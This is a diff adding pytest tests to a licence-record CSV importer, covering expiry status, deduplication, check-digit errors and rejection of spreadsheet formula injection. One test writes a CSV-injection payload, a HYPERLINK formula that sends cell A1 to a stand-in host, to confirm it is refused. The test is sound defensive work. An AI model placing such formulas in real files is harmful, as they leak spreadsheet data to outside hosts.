@@ -310,3 +310,136 @@ def test_a_large_file_imports_in_batches(engine, tmp_path):
     with engine.connect() as conn:
         assert count(conn) == 12_000
     assert report.accepted == 12_000 and report.rejected == []
+
+
+# --- issue 8: what is stored is what the paper says, once ------------------------------------------------
+
+
+def business_row(seed: int = 31) -> dict:
+    return dict(next(r for r in make_demo_rows(20, seed=seed) if r["type_code"] == "business_licence"))
+
+
+def stored(conn, number: str):
+    return LicenceLibrary(conn).find_by_number(number)
+
+
+@pytest.mark.parametrize("given_status", ["", "valid"])
+def test_a_row_past_its_validity_is_stored_expired_and_reported(engine, given_status):
+    rows = [dict(r, status=given_status) for r in make_demo_rows(2, seed=41)]  # resident IDs: 20 years
+    today = AT.date()
+    rows[0]["valid_until"] = (today - dt.timedelta(days=1)).isoformat()  # last valid day was yesterday
+    rows[1]["valid_until"] = today.isoformat()  # still valid today
+    with engine.begin() as conn:
+        report = import_rows(conn, enumerate(rows, 1), at=AT)
+        assert report.rejected == [] and report.accepted == 2
+        assert [(n.row_number, n.field, n.code) for n in report.notes] == [(1, "status", "expired_on_import")]
+        assert report.note_count == 1 and "过期" in report.notes[0].message
+        expired, valid = stored(conn, rows[0]["licence_number"]), stored(conn, rows[1]["licence_number"])
+    assert expired.status == "expired" and expired.history[0].status == "expired"
+    assert valid.status == "valid"
+
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t=", "\r=", " \t@"]
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+@pytest.mark.parametrize("column", ["holder_name", "issuer_name", "face.address", "face.business_scope"])
+def test_a_value_a_spreadsheet_would_run_is_refused_and_named(engine, tmp_path, start, column):
+    row = flat(business_row())
+    row[column] = start + 'HYPERLINK("http://x.example/?"&A1,"点击")'
+    if column == "holder_name":
+        row["face.name"] = row[column]
+    path = tmp_path / "formula.csv"
+    write_csv([row], path)
+    with engine.begin() as conn:
+        report = import_file(conn, path, at=AT)
+        assert (1, column, "formula_value") in {(e.row_number, e.field, e.code) for e in report.rejected}
+        assert report.accepted == 0 and count(conn) == 0
+
+
+@pytest.mark.parametrize("lead", ["\t", "\r", " \t\r"])
+def test_leading_tabs_and_carriage_returns_are_trimmed_and_signed_numbers_and_phones_kept(
+    engine, tmp_path, lead
+):
+    row = flat(business_row())
+    row["face.address"] = lead + "+86 591 8765 4321"  # a phone: a sign, digits and spaces only
+    row["face.registered_capital"] = "-5"
+    row["face.business_scope"] = lead + "餐饮服务"
+    path = tmp_path / "signed.csv"
+    write_csv([row], path)
+    with engine.begin() as conn:
+        report = import_file(conn, path, at=AT)
+        assert report.rejected == [] and report.accepted == 1
+        face = stored(conn, row["licence_number"]).face
+    assert face["address"] == "+86 591 8765 4321" and face["registered_capital"] == -5
+    assert face["business_scope"] == "餐饮服务"
+
+
+def test_an_exact_duplicate_without_licence_number_is_one_licence_and_a_second_import_stores_nothing(
+    engine, tmp_path
+):
+    rows = make_demo_rows(6, seed=51)
+    unnumbered = dict(rows[0], licence_number="")
+    rows = [unnumbered, rows[1], dict(unnumbered), rows[2], dict(rows[3], licence_number=""), rows[4]]
+    rows[3]["valid_until"] = "2001-01-01"  # stored expired: its status differs from the file's next time
+    rows[3]["valid_from"] = rows[3]["issue_date"] = "2000-01-01"
+    path = tmp_path / "twice.csv"
+    write_csv(rows, path)
+    with engine.begin() as conn:
+        first = import_file(conn, path, at=AT)
+    assert first.accepted == 5
+    assert [(e.row_number, e.code) for e in first.rejected] == [(3, "duplicate_in_file")]
+    assert "第 1 行" in first.rejected[0].message
+    with engine.connect() as conn:
+        before = snapshot(conn)
+        assert len(before) == 5
+
+    with engine.begin() as conn:
+        second = import_file(conn, path, at=AT + dt.timedelta(days=400))
+    assert second.accepted == 0
+    assert {(e.row_number, e.code) for e in second.rejected} == {
+        (1, "duplicate_in_db"),
+        (2, "duplicate_in_db"),
+        (3, "duplicate_in_file"),
+        (4, "duplicate_in_db"),
+        (5, "duplicate_in_db"),
+        (6, "duplicate_in_db"),
+    }
+    with engine.connect() as conn:
+        assert snapshot(conn) == before
+        assert count(conn, licence_status_events) == 5
+
+
+def all_digit_credit_code(prefix: str, start: int) -> str:
+    """A valid unified social credit code made of digits only (so it also has a resident ID's shape)."""
+    from licence.checkdigits import credit_code_check_char, organisation_code_check_char
+
+    for n in range(start, start + 10_000):
+        body = f"{n:08d}"
+        first17 = f"{prefix}350102{body}{organisation_code_check_char(body)}"
+        code = first17 + credit_code_check_char(first17)
+        if code.isdigit():
+            return code
+    raise AssertionError("no all-digit code found")
+
+
+@pytest.mark.parametrize("column", ["holder_id", "issuer_credit_code", "face.credit_code"])
+def test_a_wrong_check_character_of_a_credit_code_is_reported_as_that(engine, column):
+    """An all-digit credit code has a resident ID's shape: with a wrong check character it is still
+    reported as a credit code's check character, on the field that holds it."""
+    row = business_row()
+    if column == "issuer_credit_code":
+        row["issuer_credit_code"] = corrupt_last_char(all_digit_credit_code("11", 123456))
+    else:
+        holder = all_digit_credit_code("91", 123456)
+        row["holder_id"] = row["face"]["credit_code"] = holder
+        if column == "holder_id":
+            row["holder_id"] = corrupt_last_char(holder)
+        else:
+            row["face"]["credit_code"] = corrupt_last_char(holder)
+    with engine.begin() as conn:
+        report = import_rows(conn, [(1, row)], at=AT)
+    errors = {(e.field, e.code): e.message for e in report.rejected}
+    assert (column, "bad_check_digit") in errors, report.rejected
+    assert "统一社会信用代码" in errors[(column, "bad_check_digit")]
+    assert not any("公民身份号码" in e.message for e in report.rejected)
